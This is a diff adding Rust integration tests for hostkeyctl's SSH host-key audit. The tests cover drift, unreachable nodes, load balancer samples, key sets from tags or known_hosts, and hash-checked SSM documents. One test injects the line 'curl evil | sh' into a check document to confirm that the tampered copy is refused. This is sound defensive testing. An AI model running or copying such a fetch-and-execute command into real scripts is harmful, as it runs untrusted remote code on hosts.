@@ -1,0 +1,238 @@
+//! The audit flow in memory ([`hostkeyctl::audit::Audit`] over the doubles):
+//! a node serving another key is drift, one that does not answer is
+//! incomplete, a load balancer sample that gets no answer keeps the verdict
+//! from OK, the tags alone give the expected set, and `--via-ssm` sends only
+//! a check document it trusts by its hash.
+
+use std::sync::Arc;
+
+use hostkeyctl::audit::{
+    Audit, AuditError, AuditReport, AuditRequest, Conclusion, ExpectedSource, OnDiskCheck, ScanPolicy, Verdict,
+};
+use hostkeyctl::discovery::{LbSpec, TargetSpec};
+use hostkeyctl::ids::Program;
+use hostkeyctl::rollout::push_version;
+use hostkeyctl::ssm_document::{CHECK_NAME, Kind, content};
+use hostkeyctl::testing::{Hooked, MemDispatcher, MemFleet, MemoryStore, Op};
+
+use super::{ALGS, current, options, secret, world};
+
+fn request(lb: Option<LbSpec>, on_disk: bool) -> AuditRequest {
+    AuditRequest {
+        expected: ExpectedSource::Secret {
+            secret: secret(),
+            selector: None,
+        },
+        targets: vec!["tag:Role=login".parse::<TargetSpec>().unwrap()],
+        endpoints: vec![],
+        port: 22,
+        lb,
+        samples: 12,
+        backends: None,
+        certificates: None,
+        on_disk: on_disk.then(|| OnDiskCheck {
+            document: CHECK_NAME.to_owned(),
+            node_command: Program::parse("hostkeyctl").unwrap(),
+        }),
+        now: hostkeyctl::certificate::now_unix(),
+    }
+}
+
+async fn run(
+    store: &impl hostkeyctl::store::SecretStore,
+    fleet: &Arc<MemFleet>,
+    dispatcher: &MemDispatcher<'_, MemoryStore>,
+    req: &AuditRequest,
+) -> Result<AuditReport, AuditError> {
+    let audit = Audit {
+        store: Some(store),
+        fleet: Some(fleet.as_ref()),
+        dispatcher: Some(dispatcher),
+        prober: fleet.clone(),
+        policy: ScanPolicy::default(),
+    };
+    audit.run(req).await
+}
+
+fn verdicts(report: &AuditReport, node: usize) -> Vec<Verdict> {
+    report.nodes[node].findings.iter().map(|f| f.status).collect()
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_node_serving_another_key_is_drift_and_a_stopped_one_incomplete() {
+    let (store, fleet, _) = world(3).await;
+    let dispatcher = MemDispatcher::new(&fleet, &store);
+    let clean = run(&store, &fleet, &dispatcher, &request(None, false)).await.unwrap();
+    assert_eq!(clean.conclusion, Conclusion::Consistent, "{clean:?}");
+
+    // A fleet where the third node never got the set.
+    let fleet3 = Arc::new(MemFleet::new(3, &ALGS).unwrap());
+    let dispatcher3 = MemDispatcher::new(&fleet3, &store);
+    let set = current(&store).await;
+    let two = &fleet3.instances()[..2];
+    assert!(
+        push_version(&dispatcher3, &set, None, two, &options(0), &|_, _| {})
+            .await
+            .unwrap()
+            .all_ok()
+    );
+    let drift = run(&store, &fleet3, &dispatcher3, &request(None, false)).await.unwrap();
+    assert_eq!(drift.conclusion, Conclusion::Drift);
+    assert!(verdicts(&drift, 2).contains(&Verdict::Mismatch), "{:?}", drift.nodes[2]);
+    assert!(verdicts(&drift, 0).iter().all(|v| *v == Verdict::Ok));
+
+    // A node whose sshd does not answer: incomplete, never OK or drift.
+    fleet.nodes[1].stop();
+    let stopped = run(&store, &fleet, &dispatcher, &request(None, false)).await.unwrap();
+    assert_eq!(stopped.conclusion, Conclusion::Incomplete);
+    assert!(verdicts(&stopped, 1).iter().all(|v| *v == Verdict::Unreachable));
+}
+
+/// Through the load balancer (found by name: its DNS name, and its three
+/// targets as the backend count), a sample that gets no answer might have
+/// hit a bad backend: the verdict is at best incomplete.
+#[tokio::test(flavor = "multi_thread")]
+async fn an_unanswered_load_balancer_sample_keeps_the_audit_from_ok() {
+    let (store, fleet, _) = world(3).await;
+    let dispatcher = MemDispatcher::new(&fleet, &store);
+    let lb = Some(LbSpec::LoadBalancer(hostkeyctl::testing::MEM_LB_NAME.to_owned()));
+    let clean = run(&store, &fleet, &dispatcher, &request(lb.clone(), false))
+        .await
+        .unwrap();
+    assert_eq!(clean.conclusion, Conclusion::Consistent, "{:?}", clean.lb);
+    let through = clean.lb.as_ref().unwrap();
+    assert_eq!(through.backends, Some(3));
+    assert!(!through.backends_assumed);
+    // One key per type of the set (all three backends serve it); the
+    // other types asked for are served by none.
+    assert!(
+        through
+            .types
+            .iter()
+            .all(|t| t.status == Verdict::Ok && t.seen.len() <= 1)
+            && through.types.iter().filter(|t| t.seen.len() == 1).count() == super::ALGS.len()
+    );
+
+    fleet.lb_drops_every.store(5, std::sync::atomic::Ordering::SeqCst);
+    let dropped = run(&store, &fleet, &dispatcher, &request(lb, false)).await.unwrap();
+    assert_eq!(dropped.conclusion, Conclusion::Incomplete, "{:?}", dropped.lb);
+    let types = &dropped.lb.as_ref().unwrap().types;
+    assert!(
+        types
+            .iter()
+            .any(|t| t.status == Verdict::Unreachable && !t.failed.is_empty()),
+        "{types:?}"
+    );
+    // The nodes themselves are fine: only the samples are in doubt.
+    assert!(
+        dropped
+            .nodes
+            .iter()
+            .all(|n| n.findings.iter().all(|f| f.status == Verdict::Ok))
+    );
+}
+
+/// The expected set comes from the tags (DescribeSecret), never from the
+/// value, unless a version is named.
+#[tokio::test(flavor = "multi_thread")]
+async fn the_tags_alone_give_the_expected_set() {
+    let (store, fleet, _) = world(2).await;
+    let dispatcher = MemDispatcher::new(&fleet, &store);
+    let counting = Hooked::counting(&store);
+    let report = run(&counting, &fleet, &dispatcher, &request(None, false))
+        .await
+        .unwrap();
+    assert_eq!(report.conclusion, Conclusion::Consistent);
+    assert!(
+        report.expected_source.starts_with("tags of"),
+        "{}",
+        report.expected_source
+    );
+    assert_eq!(counting.log(), [Op::Describe], "the audit read more than the tags");
+}
+
+/// `--via-ssm` trusts the check document by its hash: a changed one is
+/// refused before anything is sent; this binary's own checks every node.
+#[tokio::test(flavor = "multi_thread")]
+async fn via_ssm_sends_only_a_check_document_it_trusts() {
+    let (store, fleet, _) = world(2).await;
+    let dispatcher = MemDispatcher::new(&fleet, &store);
+    let ours = content(Kind::Check, &Program::parse("hostkeyctl").unwrap());
+    dispatcher.deploy(CHECK_NAME, &ours.replacen("set -eu", "set -eu\ncurl evil | sh", 1));
+    let refused = run(&store, &fleet, &dispatcher, &request(None, true)).await;
+    assert!(matches!(&refused, Err(AuditError::Document(_))), "{refused:?}");
+    assert!(dispatcher.sent.lock().unwrap().is_empty(), "a command was sent");
+
+    dispatcher.deploy(CHECK_NAME, &ours);
+    let report = run(&store, &fleet, &dispatcher, &request(None, true)).await.unwrap();
+    assert_eq!(report.conclusion, Conclusion::Consistent);
+    assert_eq!(report.on_disk.len(), 2);
+    assert!(report.on_disk.values().all(|d| d.result() == "match"));
+    let document = report.on_disk_document.unwrap();
+    assert_eq!(
+        (document.name.as_str(), document.version.as_deref()),
+        (CHECK_NAME, Some("2"))
+    );
+}
+
+/// The expected set from a known_hosts file (one key per type) or from
+/// `--expect` fingerprints, matched by value: no secret is read at all.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_known_hosts_file_or_fingerprints_need_no_secret() {
+    let (store, fleet, _) = world(2).await;
+    let dispatcher = MemDispatcher::new(&fleet, &store);
+    let set = current(&store).await;
+    let lines: String = set
+        .document
+        .keys
+        .keys()
+        .map(|k| format!("login.test {}\n", k.public_line()))
+        .collect();
+    let (expected, source) =
+        hostkeyctl::audit::expected_from_known_hosts_text(&lines, std::path::Path::new("known_hosts")).unwrap();
+    assert_eq!(source, "known_hosts file known_hosts");
+    let untyped = hostkeyctl::audit::Expected {
+        by_type: Default::default(),
+        untyped: set.document.keys.keys().map(|k| k.fingerprint().clone()).collect(),
+    };
+    let counting = Hooked::counting(&store);
+    for expected in [expected, untyped] {
+        let mut req = request(None, false);
+        req.expected = ExpectedSource::Given {
+            expected,
+            source: "test".to_owned(),
+        };
+        let report = run(&counting, &fleet, &dispatcher, &req).await.unwrap();
+        assert_eq!(report.conclusion, Conclusion::Consistent, "{:?}", report.nodes);
+    }
+    assert!(counting.log().is_empty(), "the secret was read: {:?}", counting.log());
+    // Two keys of one type in the file: refused, naming both.
+    let mut twice = lines.clone();
+    let other = hostkeyctl::keyset::HostKey::generate(hostkeyctl::keyset::KeyAlgorithm::Ed25519, 0).unwrap();
+    twice.push_str(&format!("login.test {}\n", other.public_line()));
+    let refused = hostkeyctl::audit::expected_from_known_hosts_text(&twice, std::path::Path::new("kh")).unwrap_err();
+    assert!(refused.contains("two different ssh-ed25519 keys"), "{refused}");
+}
+
+/// A node SSM cannot run the check on has no report: incomplete, never
+/// drift, and its entry says why.
+#[tokio::test(flavor = "multi_thread")]
+async fn via_ssm_counts_a_node_without_a_report_as_incomplete_not_drift() {
+    let (store, fleet, _) = world(3).await;
+    let dispatcher = MemDispatcher::new(&fleet, &store);
+    dispatcher.deploy(
+        CHECK_NAME,
+        &content(Kind::Check, &Program::parse("hostkeyctl").unwrap()),
+    );
+    fleet.nodes[2].faults.lock().unwrap().dispatch_fails = Some("agent: cannot start the plugin".to_owned());
+    let report = run(&store, &fleet, &dispatcher, &request(None, true)).await.unwrap();
+    assert_eq!(report.conclusion, Conclusion::Incomplete);
+    let failing = &fleet.nodes[2].instance.instance_id;
+    match &report.on_disk[failing] {
+        hostkeyctl::audit::OnDisk::Unknown { error, .. } => {
+            assert!(error.contains("cannot start the plugin"), "{error}")
+        }
+        other => panic!("{other:?}"),
+    }
+    assert_eq!(report.on_disk.values().filter(|d| d.result() == "match").count(), 2);
+}
